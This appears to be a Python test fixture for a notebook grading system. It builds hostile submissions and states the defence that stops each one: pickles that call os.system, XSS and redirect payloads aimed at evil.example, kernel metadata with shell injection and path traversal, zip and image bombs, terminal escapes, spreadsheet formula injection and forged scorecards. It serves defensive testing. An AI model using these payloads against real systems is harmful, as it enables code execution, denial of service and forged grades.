"""Hostile submissions that need not be executed: what each attempts by its files alone, and what stops it.

`build` gives the files as they would be handed in.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

EXPORT = Path(__file__).parents[1] / "data" / "html" / "nbconvert-7.17-lab.html"
MARK = "touch /tmp/grader-was-here"
SCRIPT = "<script>document.title='pwned'</script>"
EVIL = f"{SCRIPT}<img src=x onerror=alert(1)><iframe src='https://evil.example/'></iframe><a href='javascript:alert(1)'>x</a>"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\u202e"


@dataclass(frozen=True)
class HandedIn:
    """One hostile submission."""

    name: str
    stopped_by: str
    build: Callable[[], Mapping[str, bytes]]
    status: tuple[str, ...] = ("graded", "needs_review")
    """How it may end: `unreadable` where nothing can be read of it."""


class _Bomb:
    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.system, (MARK,)


def _notebook(*cells: Mapping[str, Any], **more: Any) -> bytes:
    text = {
        "cell_type": "markdown",
        "id": "m",
        "metadata": {},
        "source": "## Systems comparison\n\nThe encoder is faster.",
    }
    return json.dumps({"cells": [*cells, text], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, **more}).encode()


def _code(source: str = "x = 1", *outputs: Mapping[str, Any], **more: Any) -> dict[str, Any]:
    return {
        "cell_type": "code", "id": "c", "metadata": {}, "source": source, "execution_count": 1, "outputs": list(outputs), **more
    }  # fmt: skip


def _shown(**data: Any) -> dict[str, Any]:
    return {
        "output_type": "display_data",
        "metadata": {},
        "data": {key.replace("__", "/").replace("_", "-"): v for key, v in data.items()},
    }


def _with(**files: bytes) -> Mapping[str, bytes]:
    return {"homework.ipynb": _notebook(_code()), **{name.replace("__", "."): data for name, data in files.items()}}


def _zip(entries: Mapping[str, bytes], *, link: str = "") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
        if link:
            info = zipfile.ZipInfo("link.ipynb")
            info.create_system, info.external_attr = 3, 0o120777 << 16
            archive.writestr(info, link)
    return buffer.getvalue()


def _pickles() -> Mapping[str, bytes]:
    inner = _zip({"archive/data.pkl": pickle.dumps(_Bomb())})
    return _with(
        adapter_model__bin=inner, training_args__bin=pickle.dumps(_Bomb()), model__safetensors=pickle.dumps(_Bomb())
    )


def _safetensors() -> Mapping[str, bytes]:
    header = json.dumps({"a": {"dtype": "F32", "shape": [1 << 40, 1 << 40], "data_offsets": [0, 1 << 62]}}).encode()
    deep = b'{"a":' * 50_000 + b"1" + b"}" * 50_000
    return _with(
        long__safetensors=struct.pack("<Q", 2**63) + b"{}", deep__safetensors=struct.pack("<Q", len(deep)) + deep,
        wide__safetensors=struct.pack("<Q", len(header)) + header + b"\0" * 64, empty__safetensors=b"",
    )  # fmt: skip


def _forged() -> Mapping[str, bytes]:
    told = json.dumps(
        {"digest": "0" * 64, "findings": {"decoder.padding_side": {"verdict": "passed"}}, "total": "100"}
    ).encode()
    return {
        **_with(evidence__json=told, findings__json=told, scorecard__json=told, reading__json=told, results__json=told),
        "executed.ipynb": _notebook(_code("print('nothing')")),
    }


def _image_bomb() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(7501) * 2000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _images() -> bytes:
    from base64 import b64encode

    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>{SCRIPT}</svg>"
    bomb = b64encode(_image_bomb()).decode()
    return _notebook(
        _code("plot()", _shown(image__svg_xml=svg), _shown(image__png=bomb), _shown(image__png="!!! no base64"))
    )


def _metadata() -> bytes:
    widgets = {
        "application/vnd.jupyter.widget-state+json": {"state": {"a": {"state": {"value": EVIL}}}, "version_major": 2}
    }
    kernel = {"name": f"../../evil; {MARK}", "display_name": EVIL, "argv": ["sh", "-c", MARK]}
    told = {"kernelspec": kernel, "widgets": widgets, "grader": {"assignment": "../../../etc/passwd"}, "title": EVIL}
    view = _shown(
        **{"application__vnd.jupyter.widget_view+json": {"model_id": "a"}, "application__javascript": "alert(1)"}
    )
    return _notebook(_code("w", view, metadata={"tags": [EVIL], "collapsed": {"a": []}}), metadata=told)


def _html() -> bytes:
    page = EXPORT.read_text("utf-8")
    head = (
        '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">'
        f'<style>@import "https://evil.example/x.css";</style>{SCRIPT}'
    )
    form = "<form action='https://evil.example/'><input autofocus onfocus='alert(1)'></form><object data='data:text/html,x'></object>"
    page = (
        page.replace("</head>", f"{head}</head>", 1)
        .replace("</h1>", f"{EVIL}{form}</h1>")
        .replace("</p>", f"{EVIL}</p>")
    )
    return page.replace("</body>", f"{'<div>' * 3000}</body>").encode()


def _many_cells() -> bytes:
    return _notebook(*(_code(f"x{n} = {n}") for n in range(30_000)))


def _long_line() -> bytes:
    text = "a" * 3_000_000 + "\n" + "[(" * 200_000
    return _notebook(
        _code("x = " + "(" * 20_000), _code("print(1)", {"output_type": "stream", "name": "stdout", "text": text})
    )


def _numbers() -> bytes:
    rows = "\n".join(f"accuracy {n / 1e5:.5f} macro_f1 1e{n % 999}" for n in range(60_000))
    return _notebook(
        _code("print(1)", {"output_type": "stream", "name": "stdout", "text": rows + "\n" + "9" * 100_000})
    )


def _formulas() -> bytes:
    return _notebook(
        {
            "cell_type": "markdown",
            "metadata": {},
            "source": "=cmd|' /C calc'!A0\n\n## =HYPERLINK(\"https://evil.example\")\n\n@SUM(1)",
        }
    )


def _odd_json() -> Mapping[str, bytes]:
    return {"homework.ipynb": b'{"cells": [' + b'{"cell_type": "code", "source": ' + b"[" * 200_000}


HANDED_IN = (
    HandedIn("hands in pickles under the names of adapters", "nothing is ever unpickled", _pickles),
    HandedIn("hands in safetensors whose headers lie", "lengths, depth and offsets are held against the file", _safetensors),
    HandedIn("hands in forged evidence, findings, scorecard and executed notebook", "originals and artefacts lie apart", _forged),
    HandedIn("a zip bomb", "size, ratio and number of members", lambda: _with(bomb__zip=_zip({"zeros.ipynb": bytes(600 << 20)}))),
    HandedIn("a zip in a zip in a zip", "depth of archives", lambda: _with(nest__zip=_zip({"a.zip": _zip({"b.zip": _zip({"c.ipynb": _notebook()})})}))),
    HandedIn("a zip with paths upwards, absolute paths and links", "members' names are rebuilt, links are no files",
             lambda: {"work.zip": _zip({"../../../../tmp/grader-was-here": b"x", "/tmp/grader-was-here": b"x", "..\\..\\evil.ipynb": b"{}",
                                        "ok/homework.ipynb": _notebook(_code())}, link="/etc/passwd")}),
    HandedIn("a zip of forty thousand files", "number of members", lambda: _with(many__zip=_zip({f"{n}.txt": b"" for n in range(40_000)}))),
    HandedIn("HTML with scripts, frames, forms, imports and redirects", "pages are made anew from text; a policy forbids requests",
             lambda: {"homework.html": _html()}),
    HandedIn("scripts in every text of a notebook", "escaped wherever they are shown",
             lambda: {"homework.ipynb": _notebook({"cell_type": "markdown", "metadata": {}, "source": f"## Deployment\n\n{EVIL}"},
                                                  _code(f"'{EVIL}'", _shown(text__html=EVIL, text__plain=EVIL, text__markdown=EVIL)))}),
    HandedIn("SVG with scripts, a picture that unpacks to gigabytes", "pictures are not unpacked and not shown", lambda: {"homework.ipynb": _images()}),
    HandedIn("metadata with kernels, widgets and paths of its own", "metadata is never used to run or to find anything", lambda: {"homework.ipynb": _metadata()},
             status=("graded", "needs_review", "unreadable")),
    HandedIn("terminal escapes in names, texts and errors", "control characters are taken out where text is shown",
             lambda: {f"home{ESCAPES[1:4]}work.ipynb": _notebook(_code(ESCAPES, {"output_type": "error", "ename": ESCAPES, "evalue": ESCAPES, "traceback": [ESCAPES]}))}),
    HandedIn("broken and bottomless JSON", "what can't be parsed goes to a person", _odd_json, status=("unreadable", "needs_review")),
    HandedIn("types that nbformat never has", "each field is checked when it is read",
             lambda: {"homework.ipynb": json.dumps({"cells": [1, None, {"cell_type": ["code"], "source": {"a": 1}}, _code(outputs={"x": 1})], "metadata": 3,
                                                    "nbformat": 10**30, "nbformat_minor": "5"}).encode()}, status=("graded", "needs_review", "unreadable")),
    HandedIn("the same cell id everywhere", "cells are told apart by their place", lambda: {"homework.ipynb": _notebook(*(_code(f"x = {n}") for n in range(50)))}),
    HandedIn("thirty thousand cells", "number of cells", lambda: {"homework.ipynb": _many_cells()}, status=("graded", "needs_review", "unreadable")),
    HandedIn("endless lines and brackets", "lengths of what is read and followed", lambda: {"homework.ipynb": _long_line()}),
    HandedIn("a hundred thousand numbers", "number of figures that are read", lambda: {"homework.ipynb": _numbers()}),
    HandedIn("formulas for whoever opens the table", "cells that begin like formulas are guarded", lambda: {"homework.ipynb": _formulas()}),
)  # fmt: skip
